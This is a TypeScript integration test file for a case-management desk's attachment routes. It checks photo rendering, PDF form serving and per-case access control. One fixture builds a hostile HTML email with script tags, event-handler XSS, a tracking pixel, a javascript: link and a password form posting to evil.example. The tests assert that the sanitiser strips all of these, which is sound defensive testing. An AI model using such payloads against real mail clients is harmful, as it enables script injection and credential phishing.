// The attachment routes of the desk — photo viewer and image, returned PDF form, a mail's HTML —
// against real Redis (a random key prefix per test), the real file blob store, rules, templates, the
// image adapter (sharp) and the MIME adapter (mailparser, sanitize-html). Each route answers only for
// a blob of that case, as its real type.
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { FastifyInstance } from "fastify";
import { Redis } from "ioredis";
import sharp from "sharp";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createFileBlobStore } from "../../src/adapters/blob/file-blob-store.js";
import { loadRules } from "../../src/adapters/files/load-rules.js";
import { loadTemplates } from "../../src/adapters/files/templates.js";
import { CaseStore } from "../../src/adapters/redis/case-store.js";
import type { BlobStore } from "../../src/app/ports.js";
import type { Case, CaseEvent, EvidenceRecord, PhotoEvidence } from "../../src/core/types.js";
import { MAIL_HTML_CSP } from "../../src/http/mail-html-routes.js";
import { createHttpServer } from "../../src/http/server.js";
import { attachmentViews } from "../../src/runtime/attachment-views.js";
import { createMetrics } from "../../src/runtime/metrics.js";
import { makeCase } from "../support/case.js";
import { sidewaysPhoto } from "../support/photo-fixtures.js";
import { randomPrefix, redisUrl } from "../support/services.js";

function photo(blob: string, file: string, over: Partial<PhotoEvidence> = {}): PhotoEvidence {
  return { file, blob, category: "electrical_panel", stage: "site_readiness", status: "ok", reasons: [], measures: { brightness: 120 }, ...over };
}

function record(mail: string, over: Partial<EvidenceRecord>): EvidenceRecord {
  return { mail, at: "2026-11-21T09:00:00.000Z", from: "el@installer.example", answers: {}, forms: [], photos: [], macs: [], ...over };
}

const mailIn = (blob: string): CaseEvent => ({ at: "2026-11-21T09:00:00.000Z", kind: "mail_in", by: "el@installer.example", summary: "Re: Aktivering", data: { blob } });

/** An HTML mail that tries everything a hostile or tracking mail does, with one inline image. */
function htmlMail(inlinePng: Buffer, trackerUrl: string): Buffer {
  const html = `<html><body><p onclick="steal()">Hej, här är <b>bilderna</b>.</p>
<script>document.title = "pwned"</script>
<img src="${trackerUrl}" alt="logo" onerror="alert(1)" width="1" height="1">
<img src="cid:sig@installer.example" alt="signature">
<form action="https://evil.example/"><input name="password"><button>Logga in</button></form>
<a href="javascript:alert(1)">klicka</a> <a href="https://installer.example/">webb</a></body></html>`;
  return Buffer.from(
    [
      "From: Ivar <el@installer.example>",
      "To: desk@vendor.example",
      "Subject: Re: Aktivering",
      "Message-ID: <html1@installer.example>",
      "MIME-Version: 1.0",
      'Content-Type: multipart/related; boundary="rel"',
      "",
      "--rel",
      "Content-Type: text/html; charset=utf-8",
      "",
      html,
      "--rel",
      "Content-Type: image/png",
      "Content-Transfer-Encoding: base64",
      "Content-ID: <sig@installer.example>",
      'Content-Disposition: inline; filename="sig.png"',
      "",
      inlinePng.toString("base64"),
      "--rel--",
      "",
    ].join("\r\n"),
  );
}

describe("the desk's attachment routes", () => {
  let redis: Redis;
  let store: CaseStore;
  let blobDir: string;
  let blobs: BlobStore;
  let app: FastifyInstance;

  async function seed(c: Case, events: CaseEvent[] = []): Promise<void> {
    expect(await store.commit({ before: null, case: c, events, outbox: [], messageIds: [], looseFlags: [] })).toBe("committed");
  }

  beforeEach(async () => {
    redis = new Redis(redisUrl());
    store = new CaseStore(redis, randomPrefix("attach"));
    blobDir = await mkdtemp(join(tmpdir(), "attach-blobs-"));
    blobs = createFileBlobStore(blobDir);
    const rules = await loadRules("rules");
    app = createHttpServer({
      uiDefaultLanguage: "en",
      store,
      blobs,
      rules,
      renderer: await loadTemplates("templates"),
      metrics: createMetrics(),
      attachments: attachmentViews(blobs, rules.photos.limits),
      teamCommand: async () => ({ kind: "refused", reason: "not in this test" }),
      settleLooseFlag: async () => ({ kind: "refused", reason: "not in this test" }),
      readiness: async () => ({ ok: true, checks: {} }),
    });
    await app.ready();
  });

  afterEach(async () => {
    await app.close();
    const keys = await redis.keys(`${store.prefix}*`);
    if (keys.length > 0) await redis.del(...keys);
    redis.disconnect();
    await rm(blobDir, { recursive: true, force: true });
  });

  it("shows a photo of the case upright, with its EXIF camera and time, its verdict in words and its neighbours; no blob of another case", async () => {
    const sideways = (await blobs.put(await sidewaysPhoto())).id;
    const second = (await blobs.put(await sharp({ create: { width: 300, height: 200, channels: 3, background: "#202020" } }).png().toBuffer())).id;
    const foreign = (await blobs.put(await sidewaysPhoto(600, 400, 2))).id;
    await seed(
      makeCase("ACT-200001", {
        evidence: [
          record("<m1@x>", {
            photos: [photo(sideways, "elcentral.jpg"), photo(second, "dark.png", { status: "failed", reasons: ["too_dark"], measures: { brightness: 12 } })],
          }),
        ],
      }),
    );
    await seed(makeCase("ACT-200002", { evidence: [record("<m2@x>", { photos: [photo(foreign, "other.jpg")] })] }));

    const page = await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/${sideways}`, headers: { cookie: "desk_lang=sv" } });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain("Fairphone FP5");
    expect(page.body).toContain("2026-11-20 10:15:00");
    expect(page.body).toContain("Elcentral");
    expect(page.body).toContain("Godkänd: skarp, väl belyst");
    expect(page.body).toContain(`href="/cases/ACT-200001/photos/${second}" rel="next"`);
    expect(page.body).toContain("Foto 1 av 2");

    const image = await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/${sideways}/image` });
    expect(image.statusCode).toBe(200);
    expect(image.headers["content-type"]).toBe("image/jpeg");
    expect(image.headers["x-content-type-options"]).toBe("nosniff");
    expect(image.headers["cache-control"]).toBe("private, max-age=31536000, immutable");
    const meta = await sharp(image.rawPayload).metadata();
    // Turned upright: the 600×400 sensor image is 400 wide and 600 high, and says no more orientation.
    expect([meta.width, meta.height, meta.orientation ?? 1]).toEqual([400, 600, 1]);

    // The browser's copy is still good (the same original): 304, nothing converted again; not for another case's URL.
    const again = await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/${sideways}/image`, headers: { "if-none-match": `"${sideways}"` } });
    expect(again.statusCode).toBe(304);
    expect(again.rawPayload.length).toBe(0);
    const elsewhere = await app.inject({ method: "GET", url: `/cases/ACT-200002/photos/${sideways}/image`, headers: { "if-none-match": `"${sideways}"` } });
    expect(elsewhere.statusCode).toBe(404);

    const png = await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/${second}/image` });
    expect(png.headers["content-type"]).toBe("image/png");
    const darkPage = await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/${second}` });
    expect(darkPage.body).toContain("Too dark: what it shows cannot be read (brightness 12 of 255");

    // Another case's photo, a thumbnail-like unknown blob, a malformed id: 404 whatever is stored.
    expect((await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/${foreign}/image` })).statusCode).toBe(404);
    expect((await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/${foreign}` })).statusCode).toBe(404);
    expect((await app.inject({ method: "GET", url: `/cases/ACT-200002/photos/${sideways}/image` })).statusCode).toBe(404);
    expect((await app.inject({ method: "GET", url: `/cases/ACT-200001/photos/sha256-abc/image` })).statusCode).toBe(404);
  });

  it("serves the case's returned form as a PDF inline or as a download, and no blob of another case", async () => {
    const pdf = (await blobs.put(Buffer.from("%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"))).id;
    const fake = (await blobs.put(Buffer.from("<html><script>alert(1)</script></html>"))).id;
    const foreign = (await blobs.put(Buffer.from("%PDF-1.7\nanother case\n%%EOF\n"))).id;
    const form = (blob: string, file: string) => ({
      form: "construction_completion",
      file,
      blob,
      status: "failed" as const,
      fields: [
        { name: "contact_phone", value: "abc", verdict: "failed" as const, reason: "invalid_phone" },
        { name: "site_address", value: "Storgatan 1", verdict: "ok" as const },
      ],
    });
    await seed(makeCase("ACT-200003", { evidence: [record("<m3@x>", { forms: [form(pdf, "konstruktion.pdf"), form(fake, "fake.pdf")] })] }));
    await seed(makeCase("ACT-200004", { evidence: [record("<m4@x>", { forms: [form(foreign, "other.pdf")] })] }));

    const page = await app.inject({ method: "GET", url: `/cases/ACT-200003/forms/${pdf}` });
    expect(page.statusCode).toBe(200);
    expect(page.headers["content-security-policy"]).toContain("frame-src 'self'");
    expect(page.body).toContain(`<iframe class="pdf-frame" id="form-pdf" src="/cases/ACT-200003/forms/${pdf}/file"`);
    expect(page.body).toContain("Construction completion form");
    expect(page.body).toContain("“Phone”: “abc” is not a valid phone number.");
    expect(page.body).toContain("“Site address”: Storgatan 1 — accepted");

    const inline = await app.inject({ method: "GET", url: `/cases/ACT-200003/forms/${pdf}/file` });
    expect(inline.statusCode).toBe(200);
    expect(inline.headers["content-type"]).toBe("application/pdf");
    expect(inline.headers["content-disposition"]).toBe('inline; filename="ACT-200003-konstruktion.pdf"');
    expect(inline.headers["x-content-type-options"]).toBe("nosniff");
    const download = await app.inject({ method: "GET", url: `/cases/ACT-200003/forms/${pdf}/file?download=1` });
    expect(download.headers["content-disposition"]).toBe('attachment; filename="ACT-200003-konstruktion.pdf"');

    // Stored as a form but no PDF: never served as one, never shown inline.
    const notPdf = await app.inject({ method: "GET", url: `/cases/ACT-200003/forms/${fake}/file` });
    expect(notPdf.headers["content-type"]).toBe("application/octet-stream");
    expect(notPdf.headers["content-disposition"]).toMatch(/^attachment;/);
    expect((await app.inject({ method: "GET", url: `/cases/ACT-200003/forms/${fake}` })).body).not.toContain("<iframe");

    expect((await app.inject({ method: "GET", url: `/cases/ACT-200003/forms/${foreign}/file` })).statusCode).toBe(404);
    expect((await app.inject({ method: "GET", url: `/cases/ACT-200004/forms/${pdf}/file` })).statusCode).toBe(404);
  });

  it("serves a received mail's HTML sanitised under its own CSP: no script, no handler, no form, no remote image; the cid: image embedded", async () => {
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: "#c00" } }).png().toBuffer();
    const raw = (await blobs.put(htmlMail(png, "http://127.0.0.1:9/pixel.gif"))).id;
    // The ingest step stores the inline part under its content id, as it does for every attachment.
    await blobs.put(png);
    const foreign = (await blobs.put(htmlMail(png, "http://127.0.0.1:9/other.gif"))).id;
    const plain = (await blobs.put(Buffer.from("From: el@installer.example\r\nSubject: Re: Aktivering\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBara text.\r\n"))).id;
    await seed(makeCase("ACT-200005"), [mailIn(raw), mailIn(plain)]);
    await seed(makeCase("ACT-200006"), [mailIn(foreign)]);

    const page = await app.inject({ method: "GET", url: `/cases/ACT-200005/mails/${raw}/html` });
    expect(page.statusCode).toBe(200);
    expect(page.body).toContain(`<iframe class="mail-frame" id="mail-html" sandbox="" referrerpolicy="no-referrer" src="/cases/ACT-200005/mails/${raw}/html/content"`);

    const content = await app.inject({ method: "GET", url: `/cases/ACT-200005/mails/${raw}/html/content` });
    expect(content.statusCode).toBe(200);
    expect(content.headers["content-type"]).toBe("text/html; charset=utf-8");
    expect(content.headers["content-security-policy"]).toBe(MAIL_HTML_CSP);
    expect(content.headers["content-security-policy"]).toContain("default-src 'none'; img-src 'self' data:; style-src 'unsafe-inline'");
    expect(content.headers["x-content-type-options"]).toBe("nosniff");
    const body = content.body;
    expect(body).toContain("Hej, här är <b>bilderna</b>.");
    expect(body).not.toMatch(/<script|pwned|onclick|onerror|<form|<input|javascript:/i);
    expect(body).not.toContain("127.0.0.1:9");
    expect(body).toContain("[image not loaded: logo]");
    expect(body).toContain(`<img src="data:image/png;base64,${png.toString("base64")}" alt="signature" />`);
    expect(body).toContain('<a href="https://installer.example/">webb</a>');

    const none = await app.inject({ method: "GET", url: `/cases/ACT-200005/mails/${plain}/html/content`, headers: { cookie: "desk_lang=sv" } });
    expect(none.statusCode).toBe(200);
    expect(none.body).toContain("E-postmeddelandet har ingen HTML-del: texten finns i e-posttråden.");

    expect((await app.inject({ method: "GET", url: `/cases/ACT-200005/mails/${foreign}/html/content` })).statusCode).toBe(404);
    expect((await app.inject({ method: "GET", url: `/cases/ACT-200005/mails/${foreign}/html` })).statusCode).toBe(404);
  });
});
